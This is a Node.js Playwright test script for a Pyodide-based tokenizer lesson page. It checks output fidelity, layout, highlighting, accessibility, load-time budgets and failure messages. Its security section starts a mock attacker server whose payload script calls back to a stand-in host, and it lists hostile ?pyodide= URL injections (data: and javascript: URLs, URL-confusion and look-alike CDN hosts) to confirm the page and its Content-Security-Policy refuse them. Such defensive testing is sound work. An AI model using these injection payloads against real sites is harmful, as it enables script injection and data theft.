// The lesson page in a real browser: node .ci/page.mjs REFERENCE NODE_MODULES
// REFERENCE is what .ci/page_states.py wrote; NODE_MODULES holds pyodide and
// playwright-core (and axe-core, if it is there). The clone is served as README.md
// says (python3 -m http.server, Pyodide linked in as .docs/pyodide), and opened in
// Debian's headless Chromium. The page must:
//   1. show, for every URL state, byte for byte what python3 prints for the command
//      it shows (the text, the figure, the copy panel), at 375 x 812 with nothing
//      cut off, at 1920 x 1080 scaled with the text;
//   2. run no code but this site's, whatever ?pyodide= says, and send nothing away;
//   3. never freeze: no main-thread task over 200 ms while loading or during
//      --train, the lesson's output at the first paint, the first Python output
//      within 1.3x of a bare loadPyodide() and runPython, and a held arrow key on
//      the View select runs only where it stops;
//   4. end each failure (file://, no tokembed.py, a fetch that hangs, a bad
//      Pyodide folder) with one message that says what to run;
//   5. light a token's ID, line and figure row together, by mouse, keyboard and tap.
import { createServer } from "node:http";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { launch, linkPyodide, pythonServer, settled, SERVE } from "./page-serve.mjs";

const [reference, modules] = process.argv.slice(2);
const clone = process.cwd();
const problems = [];
const fail = (message) => {
  console.log(`FAIL: the page ${message}`);
  process.exit(1);
};
const check = (ok, message) => ok || problems.push(message);
const done = (what) => {
  if (problems.length) fail(`${what}:\n  ${problems.join("\n  ")}`);
  console.log(`page: ${what}: ok`);
};
const read = (name) => readFileSync(join(reference, name), "utf8");
const states = JSON.parse(read("states.json"));
const views = JSON.parse(read("views.json"));  // [flag, takes, help] in VIEWS order
const median = (xs) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)];
const seconds = (ms) => `${(ms / 1000).toFixed(2)} s`;

linkPyodide(clone, modules);
const site = await pythonServer(clone);
const base = site.base;
const browser = await launch(modules);

// Every request the browser makes, from the page or its worker, must stay on
// 127.0.0.1; an attacker's server on 127.0.0.2 must never be asked for anything.
const outside = [];
const attacked = [];
const attacker = createServer((request, response) => {
  attacked.push(request.url);
  response.writeHead(200, { "content-type": "text/javascript",
                            "access-control-allow-origin": "*" });
  response.end(PAYLOAD);
});
await new Promise((resolve) => attacker.listen(0, "127.0.0.2", resolve));
const evil = `http://127.0.0.2:${attacker.address().port}`;
const PAYLOAD = `globalThis.document && (document.title = "PWNED");
console.log("PWNED");
fetch("${evil}/ran").catch(() => {});
export const loadPyodide = () => { throw new Error("PWNED"); };`;

async function context(options = {}) {
  const made = await browser.newContext(options);
  await made.route("**/*", (route) => {
    const url = route.request().url();
    if (/^(blob:)?https?:\/\/127\.0\.0\.1[:/]/.test(url) || /^(data|file):/.test(url)) {
      return route.continue();
    }
    outside.push(url);
    return route.abort();
  });
  await made.addInitScript(() => {  // before the page's own script: what a person sees
    window.__longest = [];
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        window.__longest.push([Math.round(entry.startTime), Math.round(entry.duration)]);
      }
    }).observe({ type: "longtask", buffered: true });
    window.__slowest = 0;  // the slowest response to a key press or a click, in ms
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        window.__slowest = Math.max(window.__slowest, entry.duration);
      }
    }).observe({ type: "event", durationThreshold: 16, buffered: true });
    document.addEventListener("DOMContentLoaded", () => requestAnimationFrame(() => {
      window.__firstFrame = document.getElementById("output")?.textContent;
    }));
  });
  return made;
}

function watch(page) {  // code from elsewhere announces itself: count it
  const seen = [];
  page.on("console", (message) => message.text().includes("PWNED") && seen.push(message.text()));
  page.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    dialog.dismiss().catch(() => {});
  });
  return seen;
}

const at = (query) => `${base}/.docs/index.html?${query}${query ? "&" : ""}pyodide=pyodide/`;
const shown = (page) => page.evaluate(() => ({
  output: document.getElementById("output").textContent,
  command: document.getElementById("command").textContent,
  figure: window.tokembedPage.shown.figure,
  source: document.getElementById("source").textContent,
  copyCommand: document.getElementById("copy-command").textContent,
  url: location.search,
  error: document.getElementById("output").classList.contains("error"),
}));

// --- 0. The HTML's copies: the lesson's output, and VIEWS -------------------------------------
{
  const html = readFileSync(join(clone, ".docs", "index.html"), "utf8");
  const unescape = (text) => text.replace(/&lt;/g, "<").replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, "&");
  const pre = /<pre id="output"[^>]*>([^<]*)<\/pre>/.exec(html);
  check(pre && unescape(pre[1]) === read("lesson.out"),
        "<pre id=output> is not the lesson's output, as python3 prints it");
  const copy = JSON.parse(/<script type="application\/json" id="views">([^<]*)<\/script>/
    .exec(html)?.[1] ?? "null");
  const pageViews = views.filter(([flag]) => !["--copy", "--exercise"].includes(flag));
  check(JSON.stringify(copy) === JSON.stringify(Object.fromEntries(
    pageViews.map(([flag, takes]) => [flag, takes]))), "<script id=views> is not VIEWS");
  const select = /<select id="view"[^>]*>([\s\S]*?)<\/select>/.exec(html)?.[1] ?? "";
  const options = [...select.matchAll(/<option value="([^"]*)"/g)].map((m) => m[1]);
  check(JSON.stringify(options) === JSON.stringify(pageViews.map(([flag]) => flag)),
        `the View select lists ${options}, not VIEWS in its order`);
  check(!/<script(?![^>]*type="application\/json")[^>]*>[^<\s]/.test(html),
        "has an inline script, which its Content-Security-Policy would block");
  done("the HTML's copy of the lesson's output and of VIEWS");
}

// --- 1. Every URL state, on a phone: the same bytes, and nothing cut off -------------------
const phone = await context({ viewport: { width: 375, height: 812 }, hasTouch: true,
                              isMobile: true, deviceScaleFactor: 1 });
const onPhone = await phone.newPage();
const phoneSeen = watch(onPhone);
const layout = (page) => page.evaluate(() => {
  const output = document.getElementById("output");
  const svg = document.querySelector("#figure svg");
  const scroller = svg?.closest(".scroller");
  const source = document.getElementById("source").closest(".scroller");
  const visible = (element) => element && !element.hidden && element.offsetParent !== null;
  return {
    outputCut: output.scrollWidth - output.clientWidth,
    pageCut: document.documentElement.scrollWidth - window.innerWidth,
    cellPx: svg ? 14 * svg.getBoundingClientRect().width / svg.viewBox.baseVal.width : null,
    figureCut: scroller ? scroller.scrollWidth - scroller.clientWidth : 0,
    figureCue: scroller ? visible(scroller.nextElementSibling) : false,
    sourceCut: source.scrollWidth - source.clientWidth,
    sourceCue: visible(source.nextElementSibling),
  };
});
for (const [k, state] of states.entries()) {
  await onPhone.goto(at(state.query));
  await settled(onPhone);
  const seen = await shown(onPhone);
  const expected = existsSync(join(reference, `page-${k}.err`)) ? read(`page-${k}.err`)
                                                                 : read(`page-${k}.out`);
  const where = `?${state.query}`;
  check(seen.command === state.command, `${where}: shows "${seen.command}", not "${state.command}"`);
  check(seen.output === expected, `${where}: prints\n${seen.output}\n--- not\n${expected}`);
  check(seen.error === existsSync(join(reference, `page-${k}.err`)),
        `${where}: does not mark its error as one, or marks its output as an error`);
  const figure = existsSync(join(reference, `page-${k}.svg`)) ? read(`page-${k}.svg`) : "";
  check(seen.figure === figure, `${where}: draws a different figure`);
  if (state.copy) {
    check(seen.source === read(`page-${k}.copy`), `${where}: the copy panel differs`);
    check(seen.copyCommand === state.copy, `${where}: copy command "${seen.copyCommand}"`);
  }
  const kept = new URLSearchParams(state.query);
  const now = new URLSearchParams(seen.url);
  for (const [name, value] of kept) {
    const defaults = { copy: "lookup", kind: "lesson" };
    check(now.get(name) === value || (defaults[name] === value && !now.has(name)),
          `${where}: lost ${name}=${value} from its URL: ${seen.url}`);
  }
  check(now.get("pyodide") === "pyodide/", `${where}: lost its own ?pyodide=: ${seen.url}`);
  const cut = await layout(onPhone);
  check(cut.outputCut <= 0, `${where}: at 375 px the output is ${cut.outputCut} px too wide`);
  check(cut.pageCut <= 0, `${where}: at 375 px the page scrolls sideways by ${cut.pageCut} px`);
  if (cut.cellPx !== null) {
    check(cut.cellPx >= 11, `${where}: at 375 px the figure's numbers are ${cut.cellPx} px`);
    check(cut.figureCut <= 0 || cut.figureCue, `${where}: the figure is cut with no cue`);
  }
  check(cut.sourceCut <= 0 || cut.sourceCue, `${where}: the copy panel is cut with no cue`);
}
check(!phoneSeen.length, `ran code from elsewhere: ${phoneSeen}`);
done(`${states.length} URL states at 375 x 812: the same bytes as python3, nothing cut off`);

// --- 2. Linked highlighting, the vocabulary's buttons ---------------------------------------
{
  const page = onPhone;
  await page.goto(at("view=table&text=my+order+order"));
  await settled(page);
  const lit = () => page.evaluate(() => ({
    figure: [...document.querySelectorAll("#figure .lit")].map((e) => e.dataset.row),
    output: [...document.querySelectorAll("#output .lit")].map((e) => e.dataset.row),
    note: document.getElementById("lit-note").textContent,
  }));
  await page.tap("#output .token >> text=order");  // a phone's tap, on a token
  let now = await lit();
  check(now.figure.length >= 6 && now.figure.every((row) => row === "4"),
        `a tapped token lit figure rows ${now.figure}, not row 4's cells, token and ID`);
  check(now.output.includes("4") && now.output.every((row) => row === "4"),
        `a tapped token lit output rows ${now.output}`);
  check(now.note.includes("token ID 4") && now.note.includes("positions 1, 2"),
        `a tapped token's note says "${now.note}"`);
  await page.tap("#figure text[data-row='1'] >> nth=0");  // and a tap on the figure
  now = await lit();
  check(now.output.includes("1") && now.output.every((row) => row === "1"),
        `a tapped figure row lit output rows ${now.output}`);
  await page.keyboard.press("Escape");
  const desktop = await context({ viewport: { width: 1366, height: 900 } });
  const wide = await desktop.newPage();
  watch(wide);
  await wide.goto(at(""));
  await settled(wide);
  await wide.hover("#output .token >> text=refund");  // a mouse
  now = await wide.evaluate(() => [...document.querySelectorAll(".lit")].map((e) => e.dataset.row));
  check(now.length > 6 && now.every((row) => row === "3"), `hovering refund lit ${now}`);
  await wide.mouse.move(1, 1);
  await wide.focus("#text");  // the keyboard: Tab from the field reaches the tokens
  let reached = false;
  for (let k = 0; k < 40 && !reached; k += 1) {
    await wide.keyboard.press("Tab");
    reached = await wide.evaluate(() => document.activeElement.matches("#output .token"));
  }
  now = await wide.evaluate(() => ({ row: document.activeElement.dataset.row,
    lit: [...document.querySelectorAll(".lit")].map((e) => e.dataset.row),
    note: document.getElementById("lit-note").textContent,
    live: document.getElementById("lit-note").getAttribute("role") }));
  check(reached && now.lit.length > 1 && now.lit.every((row) => row === now.row),
        `Tab does not reach a token, or lights other rows: ${JSON.stringify(now)}`);
  check(now.note && now.live === "status", "a focused token is not announced");
  await wide.click("#vocab button[value=late]");  // a word button adds its word
  await settled(wide);
  const added = await shown(wide);
  check(await wide.inputValue("#text") === "late" &&
        added.command === "python3 tokembed.py -- late" &&
        added.output.startsWith("token ids: [5]\n"), `the late button gave ${added.command}`);
  // The output has a name a screen reader reads; two figures keep their ids apart.
  check(await wide.getByRole("region", { name: "What tokembed.py prints" }).count() === 1,
        "the output box has no accessible name");
  const ids = await wide.evaluate(() => {
    const second = document.createElement("div");
    document.body.append(second);
    second.innerHTML = window.tokembedPage.shown.figure;
    window.tokembedPage.uniqueIds(second.querySelector("svg"));
    const all = [...document.querySelectorAll("[id]")].map((e) => e.id);
    const dangling = [...document.querySelectorAll("svg")].flatMap((svg) => {
      const own = [...svg.querySelectorAll("[id]")].map((e) => e.id);
      return [svg, ...svg.querySelectorAll("*")].flatMap((e) => [
        ...(e.getAttribute("aria-labelledby") ?? "").split(" ").filter(Boolean),
        ...[...e.attributes].flatMap((a) => [...a.value.matchAll(/url\(#([^)]+)\)/g)]
          .map((m) => m[1]))]).filter((id) => !own.includes(id));  // each to its own
    });
    second.remove();
    return { repeated: all.filter((id, k) => all.indexOf(id) !== k), dangling };
  });
  check(!ids.repeated.length && !ids.dangling.length,
        `two figures: ids ${ids.repeated} repeat, references ${ids.dangling} dangle`);
  const axe = join(modules, "axe-core", "axe.min.js");
  if (existsSync(axe)) {
    await wide.evaluate(readFileSync(axe, "utf8"));  // as DevTools would: the page's CSP allows no inline script
    for (const scheme of ["light", "dark"]) {
      await wide.emulateMedia({ colorScheme: scheme });
      const found = await wide.evaluate(async () => (await window.axe.run()).violations
        .map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(" ")}`));
      check(!found.length, `axe-core, ${scheme}: ${found.join("; ")}`);
    }
  } else {
    console.log("page: axe-core is not in NODE_MODULES: its check did not run");
  }
  // Dark mode: the page and the figure's paper turn dark, its ink light.
  await wide.emulateMedia({ colorScheme: "dark" });
  const dark = await wide.evaluate(() => {
    const rgb = (c) => c.match(/\d+(\.\d+)?/g).slice(0, 3).map(Number);
    const light = (c) => rgb(c).reduce((a, b) => a + b) / 765;
    const title = document.querySelector("#figure svg > text");
    return { page: light(getComputedStyle(document.body).backgroundColor),
             ink: light(getComputedStyle(document.body).color),
             title: light(getComputedStyle(title).fill) };
  });
  check(dark.page < 0.2 && dark.ink > 0.8 && dark.title > 0.8,
        `in dark mode: page ${dark.page}, ink ${dark.ink}, figure title ${dark.title}`);
  await wide.emulateMedia({ colorScheme: "light" });
  // On a 1920 slide the figure and the controls grow with the text; headings stay larger.
  await wide.setViewportSize({ width: 1920, height: 1080 });
  const slide = await wide.evaluate(() => {
    const px = (element) => parseFloat(getComputedStyle(element).fontSize);
    const svg = document.querySelector("#figure svg");
    return { body: px(document.body), h1: px(document.querySelector("h1")),
             h2: px(document.querySelector("h2")), select: px(document.getElementById("view")),
             scale: svg.getBoundingClientRect().width / svg.viewBox.baseVal.width,
             cut: document.documentElement.scrollWidth - window.innerWidth };
  });
  check(slide.body >= 20 && slide.h1 > slide.h2 && slide.h2 > slide.body &&
        slide.select >= slide.body && slide.scale >= slide.body / 16 - 0.01 && slide.cut <= 0,
        `at 1920 x 1080: ${JSON.stringify(slide)}`);
  await desktop.close();
  done("a token lights its ID, its line and its row, by tap, mouse and keyboard; " +
       "word buttons, names, ids, dark mode and a slide");
}

// --- 3. Only this site's code runs, whatever ?pyodide= says ----------------------------------
{
  const attacks = [
    "data:text/javascript,alert(document.domain)//",
    `data:text/javascript,fetch('${evil}/data')//`,
    `${evil}/`, `${evil}`, `//127.0.0.2:${attacker.address().port}/`,
    `/\\127.0.0.2:${attacker.address().port}/`, `\t//127.0.0.2:${attacker.address().port}/`,
    `HTTP://127.0.0.2:${attacker.address().port}/`, `http://127.0.0.1@127.0.0.2:${attacker.address().port}/`,
    `blob:${base}/00000000-0000-0000-0000-000000000000`, "javascript:alert(1)//",
    "https://cdn.jsdelivr.net/npm/pyodide@314.0.6/", "https://cdn.jsdelivr.net.evil.example/",
  ];
  const page = await (await context()).newPage();
  const seen = watch(page);
  for (const [k, attack] of attacks.entries()) {
    const query = new URLSearchParams({ text: "my order", view: "table", pyodide: attack });
    if (k === 3) query.append("pyodide", "pyodide/");  // two: the first must not win
    await page.goto(`${base}/.docs/index.html?${query}`);
    await page.waitForSelector("#status[data-state=error]", { timeout: 20000 });
    await page.waitForTimeout(300);
    const after = await page.evaluate(() => ({
      status: document.getElementById("status").textContent, title: document.title,
      url: location.search, text: document.getElementById("text").disabled,
      view: document.getElementById("view").disabled,
      link: document.querySelector("#help a")?.getAttribute("href") ?? "" }));
    const where = `?pyodide=${attack}`;
    check(/did not load it/.test(after.status), `${where}: says "${after.status}"`);
    check(after.title !== "PWNED", `${where}: ran the attacker's script`);
    check(!after.url.includes("pyodide="), `${where}: keeps the refused ?pyodide= in its URL`);
    check(!after.text && !after.view, `${where}: leaves the controls disabled`);
    check(after.link && !after.link.includes("pyodide"), `${where}: offers no clean link`);
    await page.selectOption("#view", "--one-hot");  // the controls still say the command
    check(await page.textContent("#command") === "python3 tokembed.py --one-hot -- my order" &&
          !(await page.evaluate(() => location.search)).includes("pyodide"),
          `${where}: a changed control brings back the refused ?pyodide=, or no command`);
  }
  check(!seen.length, `ran code from elsewhere: ${seen.join("; ")}`);
  check(!attacked.length, `asked the attacker's server for ${attacked.join(", ")}`);
  check(!outside.length, `sent requests away from 127.0.0.1: ${outside.join(", ")}`);
  await page.context().close();
  done(`${attacks.length} hostile ?pyodide= links are refused, with a message, and nothing ` +
       "leaves 127.0.0.1");

  // The Content-Security-Policy alone stops them too: with both of the page's own
  // checks taken out (page.js and worker.js, as served), no foreign script loads.
  const bare = await context();
  const unchecked = {
    "page.js": ["const here = url && /^https?:$/.test(url.protocol) && url.origin === location.origin;",
                "const here = true;"],
    "worker.js": ["function allowed(folder) {", "function allowed(folder) { return true;"],
  };
  for (const [name, [from, to]] of Object.entries(unchecked)) {
    const served = readFileSync(join(clone, ".docs", name), "utf8");
    check(served.includes(from), `${name} no longer has "${from}": update this check`);
    await bare.route(`${base}/.docs/${name}`, (route) => route.fulfill({
      contentType: "text/javascript", body: served.replace(from, to) }));
  }
  const open = await bare.newPage();
  const seenBare = watch(open);
  for (const attack of [`${evil}/`, `data:text/javascript,console.log("PWNED")//`,
                        "https://cdn.jsdelivr.net/npm/pyodide@314.0.6/"]) {
    await open.goto(`${base}/.docs/index.html?${new URLSearchParams({ pyodide: attack })}`);
    await open.waitForSelector("#status[data-state=error]", { timeout: 20000 });
    check(/could not be loaded/.test(await open.textContent("#status")),
          `unchecked, ?pyodide=${attack}: says "${await open.textContent("#status")}"`);
  }
  check(!seenBare.length && !attacked.length,
        `unchecked, the policy let code from elsewhere run: ${seenBare} ${attacked}`);
  const cdnAsked = outside.filter((url) => url.includes("pyodide@314.0.6"));
  check(!cdnAsked.length, `unchecked, the policy let the page ask for ${cdnAsked}`);
  outside.length = 0;  // those were the policy's to stop, and it did
  await bare.close();
  done("with the page's own checks removed, its Content-Security-Policy still stops them");

  // With no ?pyodide=, the page loads the pinned jsDelivr copy: answered here, from
  // the npm package, so that nothing leaves this machine.
  const cdn = await context();
  const CDN = "https://cdn.jsdelivr.net/npm/pyodide@314.0.7/";
  const fromCdn = [];
  await cdn.route(`${CDN}**`, (route) => {
    const name = route.request().url().slice(CDN.length).split("?")[0];
    fromCdn.push(name);
    const types = { mjs: "text/javascript", wasm: "application/wasm", json: "application/json" };
    route.fulfill({ body: readFileSync(join(modules, "pyodide", name)),
                    headers: { "content-type": types[name.split(".").pop()] ??
                               "application/octet-stream", "access-control-allow-origin": "*" } });
  });
  const pinned = await cdn.newPage();
  watch(pinned);
  await pinned.goto(`${base}/.docs/index.html?view=table`);
  await settled(pinned);
  const fromPinned = await shown(pinned);
  check(fromPinned.output.startsWith("token ids: [3, 1, 4]\nid") && fromCdn.includes("pyodide.mjs") &&
        !fromPinned.url.includes("pyodide"),
        `with no ?pyodide=, loaded ${fromCdn} and showed ${fromPinned.output.slice(0, 40)}`);
  await cdn.close();
  done(`with no ?pyodide=, Pyodide comes from ${CDN} (${fromCdn.length} files, answered here)`);
}

// --- 4. Never frozen: budgets, measured in this run --------------------------------------------
{
  const made = await context({ viewport: { width: 1366, height: 900 } });
  const BARE = `<!doctype html><meta charset="utf-8"><title>bare</title><script type="module">
const { loadPyodide } = await import("/.docs/pyodide/pyodide.mjs");
const pyodide = await loadPyodide({ indexURL: "/.docs/pyodide/" });
pyodide.runPython("1 + 1");
window.__done = performance.now();
</script>`;
  await made.route(`${base}/bare.html`, (route) => route.fulfill({
    contentType: "text/html", body: BARE }));
  const bare = [], mine = [], paints = [], longest = [], steps = [];
  // One of each to warm the caches, then five of each, alternated, so that the
  // machine's load falls on both alike; medians, so that one slow load is not the answer.
  for (let k = -1; k < 5; k += 1) {
    const plain = await made.newPage();
    await plain.goto(`${base}/bare.html`);
    await plain.waitForFunction(() => window.__done, null, { timeout: 120000 });
    const plainTook = await plain.evaluate(() => window.__done);
    await plain.close();
    const page = await made.newPage();
    watch(page);
    const asked = [];
    page.on("request", (request) => asked.push(new URL(request.url()).pathname));
    await page.goto(at(""));
    await settled(page);
    const got = await page.evaluate(() => ({
      events: window.tokembedPage.events, timings: window.tokembedPage.timings,
      paint: performance.getEntriesByName("first-contentful-paint")[0]?.startTime,
      first: window.__firstFrame, long: window.__longest }));
    const when = (what) => got.events.find(([name]) => name === what)?.[1];
    await page.close();
    if (k < 0) continue;
    bare.push(plainTook);
    mine.push(when("output"));
    paints.push(got.paint);
    longest.push(Math.max(0, ...got.long.map(([, ms]) => ms)));
    steps.push(got);
    check(got.first === read("lesson.out"), "the first frame does not show the lesson's output");
    check(when("output") < when("figure") && when("figure") < when("source"),
          `fills the figure or the copy panel before the text: ${JSON.stringify(got.events)}`);
    const source = asked.indexOf("/tokembed.py"), wasm = asked.findIndex((p) => p.endsWith(".wasm"));
    check(source >= 0 && wasm >= 0 && source < wasm,
          `fetches tokembed.py after Pyodide, not beside it: ${asked.join(" ")}`);
  }
  const ratio = median(mine) / median(bare);
  check(median(paints) <= 1000, `first paint after ${median(paints)} ms`);
  check(ratio <= 1.3, `first Python output ${seconds(median(mine))}, ${ratio.toFixed(2)}x a ` +
                      `bare loadPyodide() and runPython (${seconds(median(bare))})`);
  check(Math.max(...longest) <= 200, `a main-thread task of ${Math.max(...longest)} ms while loading`);
  const step = (pick) => Math.round(median(steps.map(pick)));
  const event = (name) => step((got) => got.events.find(([what]) => what === name)?.[1]);
  const timing = (name) => step((got) => got.timings[name]);
  console.log(`page: loading, medians of 5 (ms from navigation): first paint ` +
    `${Math.round(median(paints))}; worker started ${event("worker")}; tokembed.py arrived ` +
    `${timing("source:tokembed.py")}, pyodide.mjs ${timing("loader:pyodide.mjs")}, ` +
    `pyodide.asm.wasm ${timing("file:pyodide.asm.wasm")}; Python started ` +
    `${timing("python:Python")}; tokembed imported ${event("ready")}; first Python output ` +
    `${event("output")} (a bare loadPyodide() and runPython: ${Math.round(median(bare))}, ` +
    `so ${ratio.toFixed(2)}x); figure ${event("figure")}; copy panel ${event("source")}; ` +
    `longest main-thread task ${Math.max(...longest)}`);

  // --train, fresh: loading and training, and not one long task; then a held arrow key.
  const page = await made.newPage();
  watch(page);
  await page.goto(at("view=train&seed=5"));
  await settled(page);
  const train = await page.evaluate(() => ({ long: window.__longest,
    ran: window.tokembedPage.runs.length }));
  check(Math.max(0, ...train.long.map(([, ms]) => ms)) <= 200,
        `a main-thread task of ${JSON.stringify(train.long)} ms during --train`);
  await page.evaluate(() => { window.tokembedPage.runs.length = 0; });
  await page.selectOption("#view", "");
  await settled(page);
  await page.focus("#view");
  await page.evaluate(() => { window.tokembedPage.runs.length = 0; window.__slowest = 0; });
  for (let k = 0; k < 8; k += 1) {  // the lesson, down through every view to --positions
    await page.keyboard.press("ArrowDown");
    await page.waitForTimeout(40);
  }
  await settled(page);
  const held = await page.evaluate(() => ({ runs: window.tokembedPage.runs,
    view: document.getElementById("view").value, slowest: window.__slowest }));
  check(held.view === "--positions", `eight arrow presses reached ${held.view}`);
  check(held.runs.filter((argv) => !argv.includes("--svg")).length <= 1 &&
        !held.runs.some((argv) => argv[0] === "--train"),
        `a held arrow key ran ${JSON.stringify(held.runs)}`);
  check(held.slowest <= 200, `a key press took ${held.slowest} ms to show`);
  // A view still running when a control changes is superseded: only the latest shows.
  await page.evaluate(() => { window.tokembedPage.events.length = 0; });
  await page.fill("#seed", "9");
  await page.selectOption("#view", "--train");
  await page.waitForFunction(() => window.tokembedPage.runs.some((a) => a[0] === "--train" &&
                                                                     a.includes("9")));
  await page.selectOption("#view", "--context");
  await settled(page);
  const last2 = await page.evaluate(() => ({
    outputs: window.tokembedPage.events.filter(([n]) => n === "output").map(([, , a]) => a),
    command: document.getElementById("command").textContent,
    long: window.__longest }));
  check(last2.outputs.every((argv) => argv[0] !== "--train") &&
        last2.command === "python3 tokembed.py --context --seed 9",
        `a superseded --train still showed: ${JSON.stringify(last2)}`);
  check(Math.max(0, ...last2.long.map(([, ms]) => ms)) <= 200,
        `a main-thread task of ${JSON.stringify(last2.long)} ms while --train ran`);
  await made.close();
  done("budgets: first paint, first output, no long task, a held key, a superseded view");
}

// --- 5. Failure paths end, each with one message and what to run ----------------------------
{
  const made = await context();
  const ended = async (url, what, timeout = 15000) => {
    const page = await made.newPage();
    await page.goto(url);
    await page.waitForSelector("#status[data-state=error]", { timeout });
    const after = await page.evaluate(() => ({
      status: document.getElementById("status").textContent,
      help: document.getElementById("help").textContent,
      commands: [...document.querySelectorAll("#help pre")].flatMap((pre) =>
        pre.textContent.split("\n")),
      enabled: !document.getElementById("text").disabled &&
               !document.getElementById("view").disabled,
      silent: [...document.querySelectorAll(":disabled")].filter((control) => {
        const note = document.getElementById(`${control.id}-note`)?.textContent;
        const panel = control.closest("#copying") &&
          document.getElementById("source").dataset.why;
        return !note && !panel;
      }).map((control) => control.id || control.name) }));
    check(what.test(after.status), `${url}: says "${after.status}"`);
    check(after.help.includes(SERVE), `${url}: does not say what serves the page`);
    const readme = readFileSync(join(clone, "README.md"), "utf8");
    const unsaid = after.commands.filter((line) => !readme.includes(`\n${line}`));
    check(!unsaid.length, `${url}: tells a learner to run what README.md does not: ${unsaid}`);
    check(after.enabled && !after.silent.length,
          `${url}: leaves controls disabled with no message: ${after.silent}`);
    await page.close();
  };
  const docsOnly = await pythonServer(join(clone, ".docs"));
  const hanging = createServer((request, response) => {
    const path = new URL(request.url, "http://x").pathname;
    if (path === "/tokembed.py" || path.startsWith("/hang/")) return;  // never answers
    const file = join(clone, decodeURIComponent(path));
    if (!file.startsWith(clone) || !existsSync(file)) return response.writeHead(404).end();
    const types = { ".html": "text/html", ".js": "text/javascript", ".mjs": "text/javascript",
                    ".css": "text/css", ".wasm": "application/wasm" };
    response.writeHead(200, { "content-type": types[/\.[a-z]+$/.exec(file)?.[0]] ??
                              "application/octet-stream" });
    response.end(readFileSync(file));
  });
  await new Promise((resolve) => hanging.listen(0, "127.0.0.1", resolve));
  const slow = `http://127.0.0.1:${hanging.address().port}/.docs/index.html`;
  await Promise.all([
    ended(`file://${clone}/.docs/index.html`, /open as a file/),
    ended(`${docsOnly.base}/index.html?pyodide=pyodide/`, /tokembed\.py could not be fetched.*404/),
    ended(at("view=table").replace("pyodide=pyodide/", "pyodide=/nowhere/"),
          /Pyodide .*could not be loaded from .*nowhere/),
    ended(`${slow}?pyodide=/hang/`, /Pyodide .*did not arrive within 30 s/, 45000),
    ended(`${slow}?pyodide=pyodide/`, /tokembed\.py could not be fetched.*within 30 s/, 45000),
  ]);
  docsOnly.close();
  hanging.closeAllConnections?.();
  hanging.close();
  await made.close();
  done("file://, a missing tokembed.py, a bad Pyodide folder and two fetches that hang " +
       "each end in one message");
}

check(!outside.length, `sent requests away from 127.0.0.1: ${outside.join(", ")}`);
check(!attacked.length, `asked the attacker's server for ${attacked.join(", ")}`);
done("nothing left 127.0.0.1");
await browser.close();
attacker.close();
site.close();
console.log(`the page in Chromium: ${states.length} URL states, the same bytes as python3`);
process.exit(0);
